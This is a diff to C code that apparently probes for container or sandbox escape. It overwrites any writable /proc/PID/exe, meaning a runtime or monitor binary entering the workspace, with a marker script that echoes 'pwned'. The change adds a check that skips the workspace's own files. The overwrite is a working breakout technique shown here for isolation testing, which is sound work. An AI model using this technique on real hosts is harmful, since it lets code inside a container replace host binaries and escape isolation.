@@ -147,6 +147,24 @@ runtime_state_dir (void)
     close (fd);
 }
 
+/* True when the exe behind fd is a file of the workspace's own root
+   filesystem (the link's path, looked up here, is the same inode, on the
+   device of "/"): a workspace process that exited between our open and
+   write leaves its binary writable, and root inside may rewrite its own
+   rootfs.  Any other file counts, bind-mounted ones included.  */
+static bool
+own_file (const char *link, int fd)
+{
+  char target[4096];
+  struct stat a, b, root;
+  ssize_t n = readlink (link, target, sizeof target - 1);
+  if (n <= 0)
+    return false;
+  target[n] = '\0';
+  return fstat (fd, &a) == 0 && stat (target, &b) == 0 && stat ("/", &root) == 0 && a.st_dev == b.st_dev
+         && a.st_ino == b.st_ino && a.st_dev == root.st_dev;
+}
+
 /* Writes through every /proc/PID/exe we can open for writing (a runtime or
    monitor entering the workspace would show up here).  */
 static int
@@ -166,7 +184,7 @@ overwrite_exes (int *seen)
       fd = open (p, O_WRONLY | O_CLOEXEC);
       if (fd < 0)
         continue;
-      if (write (fd, "#!/bin/sh\necho pwned\n", 21) > 0)
+      if (!own_file (p, fd) && write (fd, "#!/bin/sh\necho pwned\n", 21) > 0)
         written++;
       close (fd);
     }
